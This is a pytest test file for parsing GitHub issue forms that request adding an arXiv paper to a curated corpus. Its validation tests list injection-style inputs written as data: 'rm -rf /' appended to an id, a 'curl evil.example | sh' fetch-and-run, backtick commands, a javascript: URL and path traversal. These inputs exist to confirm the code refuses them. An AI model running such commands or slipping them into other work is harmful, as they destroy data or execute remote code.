"""The issue forms offer the taxonomy's topics, and an "Add a paper" issue is read back as data:
an arXiv id and topics of the archive, or a refusal that quotes nothing of the issue."""

from __future__ import annotations

import itertools
import json
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest
import yaml

from generator.corpus import load_corpus
from generator.corpus.schema import Topic
from generator.curate.issue_forms import (
    PAPER_FIELD,
    TOPICS_FIELD,
    WHY_FIELD,
    RequestRefusedError,
    issue_forms,
    read_add_request,
)
from tests.arxiv_server import ArxivServer, arxiv_for_papers
from tests.conftest import PROJECT_ROOT, RunPapers
from tests.hostile import HOSTILE_TEXT

COMMA_TITLE = Topic(slug="embodied", title="3D, robotics and embodied AI", description="x.")
TOPICS = (
    Topic(slug="robots", title="Robots", description="Robots."),
    COMMA_TITLE,
    Topic(slug="robotics", title="Robotics", description="x."),
    Topic(slug="none-of-these", title="None", description="x."),
)


def form_body(paper: str, topics: Sequence[str], why: str = "") -> str:
    """An issue's text as GitHub writes it from the form: a heading per field, choices joined
    by ", ", `_No response_` for an empty answer."""
    answers = [
        (PAPER_FIELD[1], paper or "_No response_"),
        (TOPICS_FIELD[1], ", ".join(topics) or "_No response_"),
        (WHY_FIELD[1], why or "_No response_"),
    ]
    return "\n\n".join(f"### {label}\n\n{answer}" for label, answer in answers)


def test_the_shipped_forms_offer_the_shipped_topics(shipped_corpus_dir: Path) -> None:
    topics = load_corpus(shipped_corpus_dir).topics
    for path, content in issue_forms(topics).items():
        assert (PROJECT_ROOT / path).read_bytes() == content, f"{path}: run `papers forms`"
    form = yaml.safe_load((PROJECT_ROOT / ".github/ISSUE_TEMPLATE/add-paper.yml").read_bytes())
    dropdown = next(field for field in form["body"] if field.get("id") == TOPICS_FIELD[0])
    assert dropdown["attributes"]["options"] == [topic.title for topic in topics]


def test_a_topic_called_none_is_offered_by_its_slug() -> None:
    form = yaml.safe_load(issue_forms(TOPICS)[next(iter(issue_forms(TOPICS)))])
    dropdown = next(field for field in form["body"] if field.get("id") == TOPICS_FIELD[0])
    assert dropdown["attributes"]["options"] == [
        "Robots",
        "3D, robotics and embodied AI",
        "Robotics",
        "none-of-these",
    ]


@pytest.mark.parametrize(
    "chosen",
    [combination for size in range(1, 5) for combination in itertools.permutations(TOPICS, size)],
    ids=lambda topics: "+".join(topic.slug for topic in topics),
)
def test_every_choice_of_topics_reads_back(chosen: tuple[Topic, ...]) -> None:
    """Titles holding commas, and titles that begin another's, still read back exactly."""
    names = [topic.slug if topic.title == "None" else topic.title for topic in chosen]
    request = read_add_request(form_body("2209.10652", names), TOPICS)
    order = [topic.slug for topic in TOPICS]
    assert request.topics == tuple(sorted({t.slug for t in chosen}, key=order.index))
    assert request.arxiv == "2209.10652"


@pytest.mark.parametrize(
    ("written", "arxiv"),
    [
        ("2209.10652", "2209.10652"),
        ("  arXiv:2209.10652v3 ", "2209.10652"),
        ("https://arxiv.org/abs/2209.10652", "2209.10652"),
        ("https://arxiv.org/pdf/2209.10652v1.pdf", "2209.10652"),
        ("10.48550/arXiv.2209.10652", "2209.10652"),
        ("https://doi.org/10.48550/ARXIV.2209.10652", "2209.10652"),
        ("hep-th/9901001", "hep-th/9901001"),
    ],
)
def test_the_ways_to_name_an_arxiv_paper(written: str, arxiv: str) -> None:
    assert read_add_request(form_body(written, ["Robots"]), TOPICS).arxiv == arxiv


def test_a_windows_line_ending_body_reads_the_same() -> None:
    body = form_body("2209.10652", ["Robots", "Robotics"]).replace("\n", "\r\n")
    assert read_add_request(body, TOPICS).topics == ("robots", "robotics")


def refusal(body: str) -> str:
    with pytest.raises(RequestRefusedError) as refused:
        read_add_request(body, TOPICS)
    return str(refused.value)


@pytest.mark.parametrize(
    "paper",
    [
        "",
        "2209.10652; rm -rf /",
        "$(curl https://evil.example | sh)",
        "`id`",
        "2209.10652\n2301.00001",
        "javascript:alert(1)",
        "https://evil.example/abs/2209.10652",
        "../../.github/workflows/publish",
        "2209.10652 --topic robots",
        "-rf",
        *HOSTILE_TEXT,
    ],
)
def test_anything_but_an_arxiv_id_is_refused_without_being_quoted(paper: str) -> None:
    reply = refusal(form_body(paper, ["Robots"]))
    assert PAPER_FIELD[1] in reply
    # Nothing of the issue in the reply: the same for every wrong answer.
    assert reply in {refusal(form_body("", ["Robots"])), refusal(form_body("x", ["Robots"]))}


def test_another_doi_is_refused_with_the_reason() -> None:
    assert "Only papers on arXiv" in refusal(form_body("10.1038/s41586-021-03819-2", ["Robots"]))


@pytest.mark.parametrize(
    "topics",
    [
        [],
        ["Rob"],
        ["Robots, Evil"],
        ["robots; rm -rf /"],
        ["3D"],
        ["Robots", ""],
        *[[h] for h in HOSTILE_TEXT],
    ],
)
def test_topics_must_all_be_the_archives(topics: list[str]) -> None:
    reply = refusal(form_body("2209.10652", topics))
    assert "`robots` (Robots)" in reply  # the reply lists what to choose from
    # and says nothing the issue wrote: the same reply for every wrong answer.
    assert reply in {
        refusal(form_body("2209.10652", [])),
        refusal(form_body("2209.10652", ["Astrology"])),
    }


def test_a_second_answer_hidden_in_the_text_field_is_refused() -> None:
    hidden = f"Good paper.\n\n### {PAPER_FIELD[1]}\n\n2301.99999"
    assert "twice" in refusal(form_body("2209.10652", ["Robots"], why=hidden))


def test_an_issue_longer_than_github_allows_is_not_read() -> None:
    assert "longer" in refusal(form_body("2209.10652", ["Robots"], why="x" * 70_000))


@pytest.mark.parametrize("why", HOSTILE_TEXT)
def test_the_free_text_is_never_used(why: str) -> None:
    request = read_add_request(form_body("2209.10652", ["Robots"], why=why), TOPICS)
    assert (request.arxiv, request.topics) == ("2209.10652", ("robots",))


def test_a_body_that_is_not_the_form_is_refused() -> None:
    assert PAPER_FIELD[1] in refusal("Please add 2209.10652 to Robots, thanks!")


# The command the workflow runs, against the arXiv stand-in.


@pytest.fixture
def server(monkeypatch: pytest.MonkeyPatch) -> Iterator[ArxivServer]:
    yield from arxiv_for_papers(monkeypatch)


def from_issue(
    run_papers: RunPapers, corpus_dir: Path, tmp_path: Path, body: object
) -> tuple[list[str], str | None]:
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"action": "opened", "issue": {"number": 7, "body": body}}))
    reply = tmp_path / "reply.md"
    reply.unlink(missing_ok=True)
    run = run_papers(
        "add-from-issue", "--event", event, "--reply", reply, "--content", corpus_dir, "-q"
    )
    assert run.exit_code == 0, run.stderr
    return run.stdout.split(), reply.read_text() if reply.is_file() else None


def test_the_workflow_command_adds_the_paper_once(
    run_papers: RunPapers, server: ArxivServer, corpus_dir: Path, tmp_path: Path
) -> None:
    before = set((corpus_dir / "papers").iterdir())
    body = form_body("https://arxiv.org/abs/2511.99001v2", ["Physics", "Circuits"], why="<b>x</b>")
    outputs, reply = from_issue(run_papers, corpus_dir, tmp_path, body)
    assert reply is None
    (written,) = set((corpus_dir / "papers").iterdir()) - before
    assert outputs == [f"paper={written.stem}"]
    paper = load_corpus(corpus_dir).papers_by_id[written.stem]
    assert (paper.arxiv, paper.topics) == ("2511.99001", ("circuits", "physics"))

    # The same paper again, then an id arXiv does not know: answered, nothing written.
    for arxiv, answer in (("2511.99001", "already in the corpus"), ("2511.99999", "does not know")):
        outputs, reply = from_issue(run_papers, corpus_dir, tmp_path, form_body(arxiv, ["Physics"]))
        assert outputs == ["refused=true"]
        assert reply is not None
        assert answer in reply
    assert set((corpus_dir / "papers").iterdir()) == before | {written}


@pytest.mark.parametrize("body", [None, 42, form_body("2511.99001", ["Astrology"])])
def test_the_workflow_command_refuses_before_asking_arxiv(
    run_papers: RunPapers, server: ArxivServer, corpus_dir: Path, tmp_path: Path, body: object
) -> None:
    outputs, reply = from_issue(run_papers, corpus_dir, tmp_path, body)
    assert outputs == ["refused=true"]
    assert reply
    assert server.queries == []
